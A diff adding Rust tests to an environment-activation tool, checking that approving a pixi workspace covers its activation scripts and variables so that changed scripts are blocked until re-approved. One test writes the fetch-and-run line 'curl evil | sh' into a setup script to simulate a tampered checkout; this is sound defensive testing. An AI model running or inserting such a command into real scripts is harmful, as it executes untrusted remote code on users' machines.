@@ -339,6 +339,11 @@ fn a_prefix_is_trusted_and_read_as_a_venv_is() {
     .unwrap();
     std::fs::write(px.join("setup.sh"), "export SETUP=1\n").unwrap();
     std::fs::set_permissions(px.join("setup.sh"), std::fs::Permissions::from_mode(0o664)).unwrap();
+    // A new [activation] asks again (an_allow_covers_pixis_activation); allowed, its
+    // script's permissions are checked.
+    let (_, err) = export();
+    assert!(err.contains("pixi [activation]"), "{err}");
+    assert!(w.venvsh(&["allow"], &px).status.success());
     let (code, err) = export();
     assert!(!code.contains("CONDA_PREFIX"), "{code}");
     assert!(err.contains("setup.sh is writable by its group"), "{err}");
@@ -604,4 +609,47 @@ fn dotenv_holds_a_prefix_without_its_prompt_strings() {
         !text.contains("PIXI_PROMPT") && !text.contains("CONDA_PROMPT_MODIFIER"),
         "{text}"
     );
+}
+
+/// Issue 34 §2: an allow of a pixi workspace covers its `[activation]` table and the
+/// scripts it names, as direnv's covers an `.envrc`: a `git pull` that changes a script
+/// or a variable asks again and runs nothing; a new dependency in the manifest does not.
+#[test]
+fn an_allow_covers_pixis_activation() {
+    let w = World::new("pixi-allow");
+    let px = w.p("px");
+    std::fs::create_dir_all(&px).unwrap();
+    let manifest = |extra: &str, value: &str| {
+        std::fs::write(
+            px.join("pixi.toml"),
+            format!(
+                "[workspace]\nname = \"px\"\n{extra}[activation]\nscripts = [\"setup.sh\"]\n[activation.env]\nV = \"{value}\"\n"
+            ),
+        )
+        .unwrap();
+    };
+    manifest("", "1");
+    std::fs::write(px.join("setup.sh"), "export SETUP=1\n").unwrap();
+    prefix(&px.join(".pixi/envs/default"), &[]);
+    assert!(w.venvsh(&["allow"], &px).status.success());
+    let active = || export_in(&w, "bash", &px).0.contains("/setup.sh'");
+    assert!(active());
+    manifest("[dependencies]\npython = \"3.12.*\"\n", "1");
+    assert!(active(), "a new dependency keeps the allow");
+    std::fs::write(px.join("setup.sh"), "curl evil | sh\n").unwrap();
+    let (code, err) = export_in(&w, "bash", &px);
+    assert!(
+        !code.contains("CONDA_PREFIX") && !code.contains("setup.sh"),
+        "{code}"
+    );
+    assert!(
+        err.contains("pixi [activation] (its variables or scripts) changed"),
+        "{err}"
+    );
+    assert!(w.venvsh(&["allow"], &px).status.success());
+    assert!(active());
+    manifest("", "2");
+    assert!(!active(), "a changed variable asks again");
+    let status = String::from_utf8_lossy(&w.venvsh(&["status"], &px).stdout).into_owned();
+    assert!(status.contains("changed since it was allowed"), "{status}");
 }
